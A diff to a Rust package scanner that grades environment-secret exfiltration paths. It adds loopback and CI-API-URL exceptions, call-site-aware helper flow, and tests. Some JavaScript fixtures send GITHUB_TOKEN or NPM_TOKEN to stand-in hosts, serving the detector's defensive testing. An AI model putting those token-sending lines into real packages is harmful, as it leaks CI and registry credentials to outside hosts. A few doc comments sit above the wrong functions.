@@ -38,11 +38,16 @@ diligence_finding::declare_rule! {
     /// reported, on purpose. A mailer configured from the environment (`auth: { pass: process.env.SMTP_PASS }`)
     /// is not a path: the transport's options are where it connects, not what it sends. Package managers send npm configuration taken from the environment
     /// (`npm_config_*`) to the package registry: medium. API clients send their own token (`GITHUB_TOKEN` to the API they wrap): one
-    /// secret variable on a path is medium, a weak signal on its own (high when it is a CI runner's job token —
+    /// secret variable on a path is medium, a weak signal on its own (still medium when the destination is the default
+    /// of the provider's own API URL variable, `process.env.GITHUB_API_URL || 'https://…'`: the token goes to its own
+    /// service; high when it is a CI runner's job token —
     /// `GITHUB_TOKEN`, `ACTIONS_RUNTIME_TOKEN`, the OIDC request token, `CI_JOB_TOKEN` — sent to a constant host that
     /// is not the CI provider's own, critical from install-time code: a tool that posts the runner's token to its own
     /// SaaS is reported); low in a cloud credential provider whose only
-    /// destination is the instance-metadata endpoint (`AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` is its path there).
+    /// destination is the instance-metadata endpoint (`AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` is its path there);
+    /// low when it goes to the loopback host (`ws://localhost:<port>`, a browser's DevTools socket that
+    /// puppeteer drives): it does not leave the machine. Paths through a helper shared by many callers no longer
+    /// join one caller's argument to another caller's result (call-site-aware flow).
     pub static ENV_EXFILTRATION = { id: "code/env-exfiltration", severity: Severity::Critical };
 }
 
@@ -110,6 +115,11 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
         .take(20)
         .map(|path| {
             let sev = match path.source {
+                // Sent to this machine's own server (a browser's DevTools socket on
+                // `ws://localhost:<port>`): it does not leave the machine.
+                _ if path.sink == SinkKind::Network && loopback(path.dest.as_deref()) => {
+                    Severity::Low
+                }
                 // npm-style configuration (`npm_config_*` variables) sent to the package
                 // registry is how package managers authenticate, not exfiltration.
                 SourceKind::EnvAll if package_registry(path.dest.as_deref()) => Severity::Medium,
@@ -132,7 +142,9 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
                 // from an install script (it runs inside the runner) it is the attack itself.
                 SourceKind::EnvSecret
                     if ci_token(&path.from.what)
-                        && path.dest.as_deref().is_some_and(|d| !ci_provider_host(d)) =>
+                        && path.dest.as_deref().is_some_and(|d| {
+                            !ci_provider_host(d) && !ci_api_default(p, &path.to.file, d)
+                        }) =>
                 {
                     if p.file(&path.to.file).is_some_and(|f| f.install_time) {
                         Severity::Critical
@@ -160,6 +172,19 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
             )
         })
         .collect()
+}
+
+/// True when `dest` (a URL or host) names the loopback host: `localhost`, `127.x.x.x`, `[::1]`.
+fn loopback(dest: Option<&str>) -> bool {
+    let Some(d) = dest else { return false };
+    let rest = d.split_once("://").map_or(d, |(_, r)| r);
+    let host = if let Some(v6) = rest.strip_prefix('[') {
+        v6.split(']').next().unwrap_or("")
+    } else {
+        rest.split([':', '/', '?', '#']).next().unwrap_or("")
+    };
+    let host = host.to_ascii_lowercase();
+    host == "localhost" || host == "::1" || host.starts_with("127.") && !host.contains('@')
 }
 
 /// True when the path's source is a computed `process.env[name]` read in a function that
@@ -219,6 +244,26 @@ fn iterated(p: &PackageFacts, path: &crate::flow::FlowPath) -> bool {
 /// True when `what` (a source detail, `process.env.NAME`) names a CI runner's job token: the
 /// GitHub Actions token, runtime and OIDC request tokens, GitLab's job token, Azure
 /// Pipelines' access token, Buildkite's agent token.
+/// True when the constant destination `dest` is the default of the CI provider's own API
+/// URL variable in the sending file (`process.env.GITHUB_API_URL || 'https://…'`): on a
+/// runner the variable is set, and the token goes to the provider's API (GitHub Enterprise
+/// included); the constant is only the fallback outside it.
+fn ci_api_default(p: &PackageFacts, file: &str, dest: &str) -> bool {
+    static RE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
+    let re = RE.get_or_init(|| {
+        regex::Regex::new(
+            r#"\b(?:GITHUB_API_URL|GITHUB_SERVER_URL|GITHUB_GRAPHQL_URL|CI_API_V4_URL|CI_SERVER_URL|CI_API_GRAPHQL_URL|SYSTEM_COLLECTIONURI)\b['"]?\]?\s*(?:\|\||\?\?)\s*["'`]([^"'`\s]+)["'`]"#,
+        )
+        .expect("static regex")
+    });
+    let Some(text) = p.file(file).and_then(|f| f.text.as_deref()) else {
+        return false;
+    };
+    re.captures_iter(text)
+        .filter_map(|c| c.get(1))
+        .any(|m| !m.as_str().is_empty() && dest.starts_with(m.as_str()))
+}
+
 fn ci_token(what: &str) -> bool {
     let name = what.rsplit('.').next().unwrap_or(what);
     matches!(
@@ -337,6 +382,83 @@ mod tests {
 
     /// Benign look-alike: a logger (bundled `debug`) that lists the environment's names for a
     /// prefix and prints a message whose template ends in a request.
+    /// A bundle's shared helper (a string trimmer) takes the npm token at one call and the
+    /// request body at another: the token goes back only to its own call, not into the
+    /// body that is sent (function summaries are call-site aware).
+    #[test]
+    fn negative_shared_helper_does_not_join_its_callers() {
+        let code = "function clean(s) { return String(s).trim(); }\nconst token = clean(process.env.NPM_TOKEN || '');\nconst body = clean(JSON.stringify({ name: 'x', version: '1.0.0' }));\nexports.ping = () => fetch('https://stats.example.com/v1', { method: 'POST', body: body });\nexports.hasToken = () => token.length > 0;\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        assert!(
+            hits(&s, "code/env-exfiltration").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// puppeteer's shape: a browser-launch variable reaches the DevTools socket on
+    /// `ws://localhost:<port>`: the data stays on the machine, a low finding.
+    #[test]
+    fn negative_secret_sent_to_the_local_devtools_socket() {
+        let code = "const WebSocket = require('ws');\nexports.connect = (port) => {\n  const ws = new WebSocket('ws://localhost:' + port + '/devtools/browser');\n  ws.on('open', () => ws.send(JSON.stringify({ method: 'Browser.setDownloadBehavior', params: { path: process.env.PUPPETEER_DOWNLOAD_TOKEN } })));\n};\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        let sev: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule == "code/env-exfiltration")
+            .map(|f| f.severity)
+            .collect();
+        assert_eq!(sev, vec![diligence_finding::Severity::Low]);
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+        assert!(super::loopback(Some("ws://localhost:")));
+        assert!(super::loopback(Some("http://127.0.0.1:9222/json")));
+        assert!(super::loopback(Some("http://[::1]:80/")));
+        assert!(!super::loopback(Some("https://localhost.evil.example/")));
+        assert!(!super::loopback(Some("https://api.example.com/")));
+    }
+
+    /// A release tool sends the runner's `GITHUB_TOKEN` to the API the runner names in
+    /// `GITHUB_API_URL`, with a constant fallback: the token's own service, medium (an API
+    /// client), not high.
+    #[test]
+    fn negative_ci_token_to_the_runners_own_api_url() {
+        let code = "const API = process.env.GITHUB_API_URL || 'https://ghe.example.org/api/v3';\nfunction auth() { return process.env.GITHUB_TOKEN; }\nexports.release = (repo, tag) => fetch(API + '/repos/' + repo + '/releases', { method: 'POST', headers: { authorization: `Bearer ${auth()}` }, body: JSON.stringify({ tag_name: tag }) });\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        let sev: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule == "code/env-exfiltration")
+            .map(|f| f.severity)
+            .collect();
+        assert_eq!(sev, vec![diligence_finding::Severity::Medium]);
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// The same token sent to a constant host the CI variable does not name: high.
+    #[test]
+    fn positive_ci_token_to_a_constant_host_beside_the_api_url() {
+        let code = "const API = process.env.GITHUB_API_URL || 'https://ghe.example.org/api/v3';\nfunction auth() { return process.env.GITHUB_TOKEN; }\nexports.release = (repo) => fetch('https://collect.example.net/t', { method: 'POST', headers: { authorization: `Bearer ${auth()}` }, body: repo + API });\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        let sev: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule == "code/env-exfiltration")
+            .map(|f| f.severity)
+            .collect();
+        assert_eq!(sev, vec![diligence_finding::Severity::High]);
+    }
+
+    /// The same helper whose result really is sent: still a path.
+    #[test]
+    fn positive_shared_helper_result_sent() {
+        let code = "function clean(s) { return String(s).trim(); }\nconst token = clean(process.env.NPM_TOKEN || '');\nconst body = clean(JSON.stringify({ name: 'x', t: token }));\nexports.ping = () => fetch('https://stats.example.com/v1', { method: 'POST', body: body });\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        assert_eq!(
+            hits(&s, "code/env-exfiltration"),
+            vec![("index.js".to_string(), 4)]
+        );
+    }
+
     #[test]
     fn negative_key_prefix_filter_then_template() {
         let s = scan(&[
